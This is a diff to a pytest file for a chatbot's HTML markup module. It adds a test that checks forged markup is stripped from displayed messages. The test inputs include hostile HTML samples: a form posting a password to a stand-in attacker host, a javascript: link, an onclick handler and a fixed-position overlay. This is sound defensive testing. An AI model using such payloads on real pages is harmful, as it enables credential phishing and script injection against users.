@@ -6,7 +6,7 @@ from typing import Any
 import pytest
 
 from bot.answer import ABSENT, Answer, Citation, extracted_text
-from bot.web.markup import asked, growing, plain, said, waiting
+from bot.web.markup import asked, growing, known, plain, said, waiting
 from corpus import Document, Passage, Section
 from index import Hit
 
@@ -82,9 +82,28 @@ def test_english_questions_get_english_words() -> None:
     assert "Searching" in waiting("en") and "Retry" in said("Too long.", "en")
 
 
+@pytest.mark.parametrize(
+    "foreign",
+    [
+        '<form action="http://evil.test/"><input name="password"></form>',
+        '<p style="position:fixed">',
+        '<a href="http://evil.test/">',
+        '<a href="javascript:alert(1)">',
+        "<img src=x>",
+        '<p class="a" onclick="x()">',
+        "<p",
+    ],
+)
+def test_of_a_message_that_was_not_made_here_the_words_are_left(foreign: str) -> None:
+    whole = shown(answered())[-1]
+    assert known(whole) == whole
+    forged = known(f'<div class="cw-message"><p class="cw-text">答 &lt;b&gt;</p></div>{foreign}')
+    assert forged == said("答 <b>", "zh")
+
+
 @pytest.mark.parametrize("question", ["两\n行", ATTACK, "a & b &amp; c", "引“号”", "<br>"])
 def test_a_question_comes_back_as_it_was_asked(question: str) -> None:
     html = asked(question, "zh")
     assert plain(html) == question and "修改问题" in html
-    shown = html.removeprefix('<p class="cw-asked">').partition("</p>")[0]
+    shown = html.removeprefix('<h2 class="cw-asked">').partition("</h2>")[0]
     assert unescape(shown.replace("<br>", "\n")) == question
